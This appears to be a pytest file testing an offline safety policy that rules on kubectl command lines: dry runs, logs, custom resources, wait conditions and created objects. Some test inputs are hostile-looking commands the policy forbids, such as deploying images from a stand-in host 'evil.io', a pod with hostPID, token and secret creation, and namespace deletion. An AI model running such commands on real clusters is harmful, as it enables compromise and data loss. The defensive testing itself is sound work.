"""Lines that only look: changes that are tried or listed, logs of a container, questions of rights, what wait waits for."""

from __future__ import annotations

import pytest

from knowledge.errors import ScriptRefused
from knowledge.vocabulary import Ruling
from tools.ports import ResourceKind
from tools.safety.offline import judge_script, load_policy
from tools.script.json_path import is_awaitable, read_awaited, values_at
from tools.script.parser import parse
from tools.script.render import canonical

POLICY = load_policy()
MANIFEST = "apiVersion: v1\nkind: {kind}\nmetadata: {{name: a}}\n"
DIFF = "kubectl diff -f - <<'EOF'\n{body}EOF\n"


@pytest.mark.parametrize(
    "line",
    [
        "kubectl scale deploy web --replicas=0 --dry-run=server", "kubectl delete ns shop --dry-run=client -o yaml",
        "kubectl drain n1 --dry_run=client", "kubectl label pods web-1 --list", "kubectl annotate deploy/web --list=true",
        "kubectl set env deploy/web --list", "kubectl set selector svc web app=x --dry-run=client",
        "kubectl auth can-i delete deploy/web -n shop", "kubectl auth can-i '*' '*' -A", DIFF.format(body=MANIFEST.format(kind="ConfigMap")),
    ],
)  # fmt: skip
def test_line_is_a_read_when_it_only_tries_or_lists(line: str) -> None:
    (command,) = parse(line).commands
    assert command.is_read
    assert judge_script(line, POLICY).verdict is Ruling.AUTO
    assert parse(canonical(parse(line))) == parse(line)


@pytest.mark.parametrize(
    ("line", "ruling"),
    [
        ("kubectl label secret db a=b --dry-run=server -o yaml", Ruling.FORBIDDEN),
        ("kubectl patch secret db -p '{}' --dry-run=client", Ruling.FORBIDDEN),
        (DIFF.format(body=MANIFEST.format(kind="ConfigMap") + "---\n" + MANIFEST.format(kind="Secret")), Ruling.FORBIDDEN),
        ("kubectl create token x --dry-run=client", Ruling.FORBIDDEN),
        ("kubectl scale deploy web --replicas=0 --dry-run=none", Ruling.TWO),
        ("kubectl scale deploy web --replicas=0 # --dry-run=client", Ruling.TWO),
        ("kubectl annotate deploy web a='--dry-run=client'", Ruling.ONE),
        ("kubectl label pods web-1 a=b --list=false", Ruling.ONE),
        ("kubectl scale deploy a --replicas=1 --dry-run=client\nkubectl delete ns a", Ruling.FORBIDDEN),
    ],
)  # fmt: skip
def test_trying_opens_nothing_when_the_line_would_show_secrets_or_is_meant(line: str, ruling: Ruling) -> None:
    assert judge_script(line, POLICY).verdict is ruling


@pytest.mark.parametrize(
    ("line", "word"),
    [
        ("kubectl scale deploy a --replicas=1 --dry-run", "readable"), ("kubectl scale deploy a --replicas=1 --dry-run client", "readable"),
        ("kubectl get pods --dry-run=client", "only a change"), ("kubectl scale deploy a --replicas=1 -- --dry-run=client", "`--`"),
        ("kubectl scale deploy a --replicas=1 --dry-run=client --dry-run=none", "twice"),
        ("kubectl logs web app -c side", "twice"), ("kubectl logs web app side", "more than one"), ("kubectl auth can-i get", "takes a verb"),
        ("kubectl auth can-i get gizmos", "unknown kind"), ("kubectl auth can-i fly pods", "no verb"),
        ("kubectl wait pod/a --for='jsonpath={range .x}'", "readable"), ("kubectl set selector deploy/a a=b", "does not take"),
        ("kubectl set selector svc a b-", "readable"), ("kubectl taint node/gpu-1 a=b:NoSchedule", "apart"), ("kubectl diff -f a.yaml", "readable"),
    ],
)  # fmt: skip
def test_line_is_refused_when_kubectl_would_read_it_otherwise(line: str, word: str) -> None:
    with pytest.raises(ScriptRefused, match=word):
        parse(line)


def test_container_of_logs_is_the_same_in_its_older_form() -> None:
    assert parse("kubectl logs web app --tail=5") == parse("kubectl logs pod/web -c app --tail 5")
    assert parse("kubectl logs deploy/web app") == parse("kubectl logs deploy/web --container=app")


ROLLOUT = ResourceKind(
    "argoproj.io", "v1alpha1", "rollouts", "Rollout", True, "rollout", ("ro",), (), ("scale", "status")
)
WIDGET = ResourceKind("example.com", "v1", "widgets", "Widget", True, "widget", ("wd",))


def test_custom_resource_is_read_in_every_spelling_when_the_cluster_knows_it() -> None:
    kinds = (ROLLOUT, WIDGET)
    read = [
        parse(f"kubectl get {spelled} a", kinds=kinds)
        for spelled in ("wd", "widgets", "Widget", "widgets.example.com", "wd.v1.example.com")
    ]
    assert all(one == read[0] for one in read)
    assert parse("kubectl scale ro/web --replicas=3", kinds=kinds).commands[0].targets[0].kind == ROLLOUT
    with pytest.raises(ScriptRefused, match="does not take widgets"):
        parse("kubectl scale widget a --replicas=3", kinds=kinds)
    with pytest.raises(ScriptRefused, match="unknown kind"):
        parse("kubectl get widgets")


ITEM = {
    "metadata": {"labels": {"a.b/c": "1"}}, "spec": {"on": True, "none": None},
    "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}, {"type": "Old", "status": "False"}], "n": 3},
}  # fmt: skip


@pytest.mark.parametrize(
    ("text", "found", "value"),
    [
        ("{.status.phase}=Running", ["Running"], "Running"), (".status.n=3", [3], "3"), ("status.n", [3], None),
        ("{.status.conditions[0].type}=Ready", ["Ready"], "Ready"), ("{.status.conditions[-1].type}", ["Old"], None),
        ("{.status.conditions[*].type}", ["Ready", "Old"], None), ("{.status.conditions[5].type}", [], None),
        ('{.status.conditions[?(@.type=="Ready")].status}=True', ["True"], "True"),
        ("{.status.conditions[?(@.type=='Gone')].status}=True", [], "True"),
        (r"{.metadata.labels.a\.b/c}", [], None), (r"{.metadata.labels.a\.b\/c}=1", ["1"], "1"), ("{.metadata.labels['a.b/c']}", ["1"], None),
        ("{.spec.on}='true'", [True], "true"), ("{.missing.deep}", [], None),
    ],
)  # fmt: skip
def test_path_of_wait_finds_what_kubectl_finds(text: str, found: list[object], value: str | None) -> None:
    awaited = read_awaited(text)
    if awaited is None:
        assert text == r"{.metadata.labels.a\.b/c}"
        return
    assert values_at(ITEM, awaited.path) == found
    assert awaited.value == value


@pytest.mark.parametrize(
    ("text", "is_good"),
    [
        ("delete", True), ("create", True), ("condition=Ready", True), ("condition=Ready=Unknown", True), ("jsonpath={.a}=b", True),
        ("jsonpath={.a}=", False), ("jsonpath=", False), ("jsonpath={.a..b}", False), ("jsonpath={range .a}", False), ("ready", False),
        ("condition=", False), ("", False),
    ],
)  # fmt: skip
def test_what_wait_waits_for_is_closed(text: str, is_good: bool) -> None:
    assert is_awaitable(text) is is_good


@pytest.mark.parametrize(
    ("line", "ruling"),
    [
        ("kubectl create deployment web --image=nginx:1.27 -r 2 --port=80", Ruling.ONE), ("kubectl create deploy web --image=evil.io/a:1", Ruling.FORBIDDEN),
        ("kubectl create deploy web --image=nginx:1.27 --image=evil.io/nginx:1", Ruling.FORBIDDEN), ("kubectl create job a --image=nginx", Ruling.TWO),
        ("kubectl create cronjob a --image=evil.io/a:1 --schedule='0 3 * * *'", Ruling.FORBIDDEN), ("kubectl create pdb a --selector=app=web", Ruling.TWO),
        ("kubectl create deploy web --image=nginx:1.27 --replicas=9999", Ruling.FORBIDDEN), ("kubectl expose deploy web --port=80", Ruling.ONE),
        ("kubectl expose deploy web --port=80 -n kube-system", Ruling.FORBIDDEN), ("kubectl create secret generic a", Ruling.FORBIDDEN),
        ("kubectl create -f - <<'EOF'\napiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {hostPID: true}\nEOF", Ruling.FORBIDDEN),
        ("kubectl create -n shop -f - <<'EOF'\n" + MANIFEST.format(kind="ConfigMap") + "EOF", Ruling.ONE), ("kubectl create -f a.yaml", Ruling.REFUSED),
    ],
)  # fmt: skip
def test_what_a_line_makes_of_its_flags_is_judged_as_if_written_out(line: str, ruling: Ruling) -> None:
    found = judge_script(line, POLICY)
    assert found.verdict is ruling, found.message
